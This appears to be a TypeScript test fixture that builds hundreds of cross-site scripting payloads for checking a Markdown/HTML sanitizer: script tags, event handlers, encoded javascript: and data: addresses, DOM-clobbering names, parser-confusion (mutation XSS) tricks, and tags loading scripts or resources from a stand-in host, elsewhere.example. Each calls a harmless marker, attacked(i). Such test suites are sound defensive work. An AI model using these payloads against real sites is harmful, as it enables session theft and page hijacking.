// Texts that try to run code, to leave the page, to ask another site or to change the page around them. They are made of
// small tables, so each has a number, a name and the same text in every run.

export interface Payload {
  name: string;
  text: string;
  /** It takes the text after it away, so it stands in a note of its own. */
  isAlone: boolean;
}

/** Another site, which no page may ask. */
const ELSEWHERE = "https://elsewhere.example";

/** What a payload calls if it runs. */
type Code = string;

/** A payload of each kind, by the code that it tries to run. */
const kinds: { name: string; isAlone: boolean; text: (code: Code, index: number) => string }[] = [];

function add(name: string, text: (code: Code, index: number) => string, isAlone = false): void {
  kinds.push({ name, text, isAlone });
}

/** Adds one for each pair. */
function cross<A, B>(as: readonly A[], bs: readonly B[], each: (a: A, b: B, i: number) => void): void {
  as.forEach((a, i) => {
    bs.forEach((b, j) => {
      each(a, b, i * bs.length + j);
    });
  });
}

/** The member at `i`, from the beginning again after the last. */
function at<T>(all: readonly T[], i: number): T {
  return all[i % all.length] as T;
}

// --- scripts --------------------------------------------------------------------------------------------------------

const SCRIPTS: readonly ((code: Code, index: number) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script/x>${code}</script>`,
  (code) => `<script\n>${code}</script\n>`,
  (code) => `<script>/*<!--*/${code}//--></script>`,
  (code) => `<p><script>${code}</script></p>`,
  (_, i) => `<script src=${ELSEWHERE}/${i}.js></script>`,
  (_, i) => `<script src="//elsewhere.example/${i}.js" defer></script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<scr<script>ipt>${code}</script>`,
  (code) => `<script language=vbscript>${code}</script>`,
  (code) => `<svg><script href="data:text/javascript,${code}" /></svg>`,
  (code) => `word <script>${code}</script> word`,
  (code) => `> <script>${code}</script>`,
  (code) => `- <script>${code}</script>`,
];
for (const [i, text] of SCRIPTS.entries()) add(`script ${i}`, text);

// --- event handlers -------------------------------------------------------------------------------------------------

/** By their beginning and end. */
const ELEMENTS = [
  ["<img src=x", ""],
  ["<image src=x", ""],
  ["<svg", "</svg>"],
  ["<svg><animate attributeName=x", "</svg>"],
  ["<svg><a><rect", "</a></svg>"],
  ["<math><mi", "</mi></math>"],
  ["<input autofocus", ""],
  ["<button autofocus", "</button>"],
  ["<details open", "</details>"],
  ["<video src=x", "</video>"],
  ["<video><source src=x", "</video>"],
  ["<audio src=x", "</audio>"],
  ["<iframe src=about:blank", "</iframe>"],
  ["<object data=x", "</object>"],
  ["<p tabindex=0", "words</p>"],
  ["<a href=#x", "words</a>"],
  ["<x-element contenteditable", "words</x-element>"],
  ["<marquee", "words</marquee>"],
  ["<div popover id=x", "words</div>"],
  ["<dialog open", "words</dialog>"],
] as const;
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onclick",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onbegin",
  "onstart",
  "ONERROR",
  "onbeforetoggle",
  "oncontentvisibilityautostatechange",
];
const BEFORE_ATTRIBUTE = [" ", "/", "\n", "\t", "\f", " / ", " a='b'", ' a="b" ', " x=y "];
const QUOTES = ["", "'", '"'];
cross(ELEMENTS, HANDLERS, ([start, end], handler, i) => {
  const quote = at(QUOTES, i);
  // Where Markdown finds no tag, it is text, which is lost in an element that is dropped with what is in it.
  const isDropped = /^<(svg|math|video|audio|iframe|object)/.test(start);
  const before = isDropped ? " " : at(BEFORE_ATTRIBUTE, i);
  const equals = at(["=", " = ", "=\n"], i);
  add(
    `handler ${handler} ${start}`,
    (code) => `${start}${before}${handler}${equals}${quote}${code}${quote}>${end}`,
  );
});

// --- addresses ------------------------------------------------------------------------------------------------------

const ADDRESSES: readonly (readonly [string, (code: Code) => string])[] = [
  ["plain", (code) => `javascript:${code}`],
  ["mixed case", (code) => `JaVaScRiPt:${code}`],
  ["decimal", (code) => `&#106;avascript:${code}`],
  ["decimal, long", (code) => `&#0000106&#0000097vascript:${code}`],
  ["hexadecimal", (code) => `&#x6a;&#x61;vascript:${code}`],
  ["no semicolon", (code) => `&#106avascript&#58${code}`],
  ["named colon", (code) => `javascript&colon;${code}`],
  ["named tab", (code) => `java&Tab;script:${code}`],
  ["named line", (code) => `java&NewLine;script:${code}`],
  ["control before", (code) => `\u0001javascript:${code}`],
  ["control before, named", (code) => `&#1;javascript:${code}`],
  ["percent", (code) => `%6aavascript:${code}`],
  ["full width", (code) => `javascript：${code}`],
  ["soft hyphen", (code) => `java\u00adscript:${code}`],
  ["right to left", (code) => `\u202ejavascript:${code}`],
  ["comment", (code) => `javascript://%0a${code}`],
  ["void", (code) => `javascript:void${code.replace("attacked", "(attacked")})`],
  ["data", (code) => `data:text/html,%3Cscript%3Eparent.${code}%3C/script%3E`],
  ["data, base 64", (code) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`],
  [
    "data, svg",
    (code) => `data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${code}'/%3E`,
  ],
  ["vbscript", (code) => `vbscript:${code}`],
  ["view-source", (code) => `view-source:javascript:${code}`],
  ["blob", () => `blob:${ELSEWHERE}/0b8d7c3e`],
  ["no scheme", () => "//elsewhere.example/x"],
];
const CARRIERS: readonly (readonly [string, (address: string, index: number) => string])[] = [
  ["link", (address) => `[words](${address})`],
  ["link in angles", (address) => `[words](<${address}> "title")`],
  ["image", (address) => `![words](${address})`],
  ["reference", (address, i) => `[words][ref${i}]\n\n[ref${i}]: ${address}`],
  ["image of a reference", (address, i) => `![words][img${i}]\n\n[img${i}]: <${address}>`],
  ["autolink", (address) => `<${address}>`],
  ["a", (address) => `<a href="${address}">words</a>`],
  ["a in a cell", (address) => `|a|\n|-|\n|<a href='${address}'>words</a>|`],
  ["area", (address) => `<map name=m><area href="${address}"></map>`],
  ["svg a", (address) => `<svg><a xlink:href="${address}"><rect width=9 /></a></svg>`],
  ["svg use", (address) => `<svg><use href="${address}#x" /></svg>`],
  [
    "svg animate",
    (address) => `<svg><a><animate attributeName=href values="${address}" /><rect /></a></svg>`,
  ],
  ["math", (address) => `<math href="${address}"></math>`],
  ["form", (address) => `<form action="${address}"><button>words</button></form>`],
  ["formaction", (address) => `<form><button formaction="${address}">words</button></form>`],
  ["iframe", (address) => `<iframe src="${address}"></iframe>`],
  ["object", (address) => `<object data="${address}"></object>`],
  ["embed", (address) => `<embed src="${address}">`],
  ["meta", (address) => `<meta http-equiv=refresh content="0;url=${address}">`],
  ["base", (address) => `<base href="${address}">`],
  ["link element", (address) => `<link rel=stylesheet href="${address}">`],
  ["image button", (address) => `<input type=image src="${address}">`],
  ["img", (address) => `<img src="${address}" alt="words">`],
  ["video", (address) => `<video poster="${address}" src="${address}"></video>`],
  [
    "cell's background",
    (address) => `<table background="${address}"><tr><td background="${address}">words</td></tr></table>`,
  ],
];
cross(CARRIERS, ADDRESSES, ([carrier, text], [encoding, address]) => {
  add(`address ${encoding} in ${carrier}`, (code, i) => text(address(code), i));
});

// --- attributes that load, and styles -------------------------------------------------------------------------------

const LOADS: readonly ((url: string) => string)[] = [
  (url) => `<img srcset="${url} 2x" alt=words>`,
  (url) => `<picture><source srcset="${url}"><img alt=words></picture>`,
  (url) => `<a href="https://example.com/" ping="${url}">words</a>`,
  (url) => `<link rel=preload as=image href="${url}">`,
  (url) => `<link rel=dns-prefetch href="${url}">`,
  (url) => `<video><track src="${url}" default></video>`,
  (url) => `<svg><image href="${url}" /></svg>`,
  (url) => `<svg><feImage xlink:href="${url}" /></svg>`,
  (url) => `<style>@import url(${url});</style>`,
  (url) => `<style>.prose{background:url(${url})}</style>`,
  (url) => `<p style="background:url(${url})">words</p>`,
  (url) => `<p style='background-image:\\75rl(${url})'>words</p>`,
  (url) => `<svg><rect fill="url(${url}#x)" /></svg>`,
  (url) => `<p style="position:fixed;inset:0;z-index:9" data-x="${url}">words</p>`,
  (url) => `<body background="${url}">`,
  (url) => `<html manifest="${url}">`,
  (url) => `<bgsound src="${url}">`,
  (url) => `<portal src="${url}"></portal>`,
  (url) => `<fencedframe src="${url}"></fencedframe>`,
  (url) => `<table><tr><td style="width:expression(alert(1))" background="${url}">words</td></tr></table>`,
  (url) => `![words](${url} "title")`,
  (url) => `![a ![b](${url})](${url})`,
];
for (const [i, text] of LOADS.entries()) add(`load ${i}`, (_, index) => text(`${ELSEWHERE}/${index}.png`));

// --- names of the page's own things -----------------------------------------------------------------------------------

const OWN_NAMES = [
  "app",
  "cookie",
  "body",
  "location",
  "attacked",
  "createElement",
  "getElementById",
  "trustedTypes",
];
const NAMED: readonly ((name: string) => string)[] = [
  (name) => `<a id=${name}>words</a><a id=${name} name=x>words</a>`,
  (name) => `<form name=${name}><input name=attributes><input name=parentNode></form>`,
  (name) => `<img name=${name} alt=words>`,
  (name) => `<iframe name=${name} srcdoc="<p id=x>"></iframe>`,
  (name) => `# ${name}\n\n<h2 id="${name}" class="skip bar">words</h2>`,
];
cross(OWN_NAMES, NAMED, (name, text, i) => {
  add(`name ${name} ${i % NAMED.length}`, () => text(name));
});

// --- Markdown around it -----------------------------------------------------------------------------------------------

const MARKDOWN: readonly ((code: Code) => string)[] = [
  (code) => `[x](https://a.example "onmouseover=${code}")`,
  (code) => `[x](https://a.example' onmouseover='${code})`,
  (code) => `[x](https://a.example" onmouseover="${code})`,
  (code) => `![x" onerror="${code}](https://a.example/x.png)`,
  (code) => `![x](https://a.example/x.png" onerror="${code})`,
  (code) => `![x](data:image/png;base64,x" onerror="${code})`,
  (code) => `[![x](javascript:${code})](javascript:${code})`,
  (code) => `[x](javascript:${code} 'a' "b")`,
  (code) => `[a]: <javascript:${code}> "t"\n\n[a] [a][] [b][a]`,
  (code) => `[<img src=x onerror=${code}>](https://a.example)`,
  (code) => `**<img src=x onerror=${code}>**`,
  (code) => `~~*__<svg onload=${code}></svg>__*~~`,
  (code) => `\`<img src=x onerror=${code}>\``,
  (code) => `\`\`\`" onmouseover=${code} x="\nwords\n\`\`\``,
  (code) => `\`\`\`html\n<img src=x onerror=${code}>\n\`\`\``,
  (code) => `    <img src=x onerror=${code}>`,
  (code) => `# <img src=x onerror=${code}> words`,
  (code) => `- [ ] <img src=x onerror=${code}>\n- [x] <script>${code}</script>`,
  (code) => `|<img src=x onerror=${code}>|\n|-|\n|<svg onload=${code}></svg>|`,
  (code) => `> > > <img src=x onerror=${code}>`,
  (code) => `<https://a.example/"onmouseover="${code}>`,
  (code) => `https://a.example/"onmouseover="${code}`,
  (code) => `www.a.example/<img src=x onerror=${code}>`,
  (code) => `<a@b.example"onmouseover="${code}>`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
  (code) => `&#60;img src=x onerror=${code}&#62;`,
  (code) => `\\<img src=x onerror=${code}\\>`,
  (code) => `<div>\n\n*<img src=x onerror=${code}>*\n\n</div>`,
  (code) => `<b><i><u><s><img src=x onerror=${code}></s></u></i></b>`,
  (code) => `<details><summary>words</summary>\n\n<img src=x onerror=${code}>\n\n</details>`,
  (code) => `[x](/signout)[y](?q=${code})[z](../api/session)`,
];
for (const [i, text] of MARKDOWN.entries()) add(`markdown ${i}`, text);

// --- odd characters, and long ones --------------------------------------------------------------------------------------

const ODD: readonly (readonly [string, string])[] = [
  ["null, named", "&#0;"],
  ["escape", "\u001b[31m"],
  ["byte order", "\ufeff"],
  ["right to left", "\u202e"],
  ["isolate", "\u2066"],
  ["zero width", "\u200b"],
  ["line separator", "\u2028"],
  ["lone surrogate, named", "&#xd800;"],
  ["beyond Unicode", "&#x110000;"],
  ["full width", "＜script＞"],
  ["joined", "👩‍👩‍👧"],
];
for (const [name, odd] of ODD) {
  add(`odd ${name} in a tag`, (code) => `<im${odd}g src=x one${odd}rror=${code}> words`);
  add(`odd ${name} before an address`, (code) => `[words](${odd}javascript:${code})`);
  add(`odd ${name} in words`, (code) => `${odd}<svg onload=${code}></svg>${odd}`);
}
const LONG = 20_000;
add("long attribute", (code) => `<img alt="${"a".repeat(LONG)}" src=x onerror=${code}>`);
add(
  "many attributes",
  (code) => `<img ${Array.from({ length: 2000 }, (_, i) => `a${i}=b`).join(" ")} onerror=${code}>`,
);
add("long name", (code) => `<x${"y".repeat(LONG)} onclick=${code}>words</x${"y".repeat(LONG)}>`);
add("long address", (code) => `[words](javascript:${code}//${"a".repeat(LONG)})`);
add("deep", (code) => `${"<div>".repeat(300)}<img src=x onerror=${code}>${"</div>".repeat(300)}`);

// --- what one parser reads as text and another as elements ----------------------------------------------------------------

const HIDING = [
  ["<noscript>", "</noscript>"],
  ["<template>", "</template>"],
  ["<textarea>", "</textarea>"],
  ["<title>", "</title>"],
  ["<xmp>", "</xmp>"],
  ["<noembed>", "</noembed>"],
  ["<noframes>", "</noframes>"],
  ["<iframe>", "</iframe>"],
  ["<style>", "</style>"],
  ["<select>", "</select>"],
  ["<plaintext>", ""],
  ["<!--", "-->"],
  ["<![CDATA[", "]]>"],
  ["<?x ", "?>"],
  ["<!x ", ">"],
] as const;
const HIDDEN: readonly ((start: string, end: string, code: Code) => string)[] = [
  (start, end, code) => `${start}<img src=x onerror=${code}>${end}`,
  (start, end, code) => `${start}<p title="${end}<img src=x onerror=${code}>">`,
  (start, end, code) => `<svg>${start}${end}<img src=x onerror=${code}></svg>`,
  (start, end, code) => `<math><mtext>${start}<a title="${end}<img src=x onerror=${code}>"></mtext></math>`,
  (start, end, code) => `${start}\n\n${end}<img src=x onerror=${code}>`,
];
cross(HIDING, HIDDEN, ([start, end], text, i) => {
  add(`hidden in ${start} ${i % HIDDEN.length}`, (code) => text(start, end, code), true);
});

const CONFUSED: readonly ((code: Code) => string)[] = [
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${code}'>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) => `<svg><foreignObject><p><style><!--</style><img src=x onerror=${code}>--></foreignObject></svg>`,
  (code) => `<svg><desc><noscript></desc></svg><img src=x onerror=${code}>`,
  (code) => `<svg><title><style></title><img src=x onerror=${code}>`,
  (code) => `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${code}>`,
  (code) =>
    `<table><caption><svg><title><table><caption></caption></table></title><img src=x onerror=${code}>`,
  (code) => `<select><template shadowrootmode=open><img src=x onerror=${code}></template></select>`,
  (code) => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
  (code) => `<frameset onload=${code}><frame src="javascript:${code}"></frameset>`,
  (code) => `<body onload=${code} onpageshow=${code}>`,
  (code) => `<html onmouseover=${code}><head><base target=_top></head>`,
  (code) => `<img src="x onerror=${code} words`,
  (code) => `<img src='x\n\n' onerror=${code}>`,
  (code) => `<a href="x\n\n" onclick=${code}>words`,
  (code) => `<p title="\`\n\n\`" onclick=${code}>words`,
  (code) => `<img src=x onerror=${code}//`,
  (code) => `<<img src=x onerror=${code}>>`,
  (code) => `</p></article></main></body><img src=x onerror=${code}>`,
  (code) => `</script><img src=x onerror=${code}>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!--a--!><img src=x onerror=${code}>`,
  (code) => `<![if IE]><img src=x onerror=${code}><![endif]>`,
  (code) => `<a><a><table><a><img src=x onerror=${code}></table></a></a>`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<iframe srcdoc='<img src=x onerror="parent.${code}">' sandbox="allow-scripts"></iframe>`,
];
for (const [i, text] of CONFUSED.entries()) add(`confused ${i}`, text, true);

/** All of them. The number that each calls `attacked` with is its place. */
export const PAYLOADS: readonly Payload[] = kinds.map(({ name, text, isAlone }, i) => ({
  name,
  isAlone,
  text: text(`attacked(${i})`, i),
}));
